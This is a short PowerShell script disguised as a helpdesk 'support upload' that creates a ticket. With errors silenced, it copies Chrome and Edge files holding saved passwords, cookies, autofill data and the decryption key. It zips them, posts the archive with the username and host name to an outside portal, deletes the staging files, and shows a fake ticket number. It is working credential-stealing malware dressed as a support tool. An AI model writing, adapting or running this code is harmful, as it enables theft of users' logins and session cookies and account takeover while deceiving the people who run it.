$ErrorActionPreference = 'SilentlyContinue'
$portal = 'https://support-upload.corp-helpdesk.example.invalid/api/tickets'
$stage  = Join-Path $env:TEMP ("sess-" + [guid]::NewGuid())
New-Item -ItemType Directory -Path $stage | Out-Null

$profiles = @{
  'chrome' = "$env:LOCALAPPDATA\Google\Chrome\User Data"
  'edge'   = "$env:LOCALAPPDATA\Microsoft\Edge\User Data"
}

foreach ($b in $profiles.Keys) {
  $root = $profiles[$b]
  if (-not (Test-Path $root)) { continue }
  $dst = Join-Path $stage $b
  New-Item -ItemType Directory -Path $dst | Out-Null
  Copy-Item "$root\Local State" $dst
  Copy-Item "$root\Default\Network\Cookies" $dst
  Copy-Item "$root\Default\Login Data" $dst
  Copy-Item "$root\Default\Web Data" $dst
}

$zip = "$stage.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
$resp = Invoke-RestMethod -Uri $portal -Method Post -InFile $zip -ContentType 'application/zip' `
        -Headers @{ 'X-User' = $env:USERNAME; 'X-Host' = $env:COMPUTERNAME }
Remove-Item -Recurse -Force $stage, $zip
Write-Host "Ticket: $($resp.ticket)"
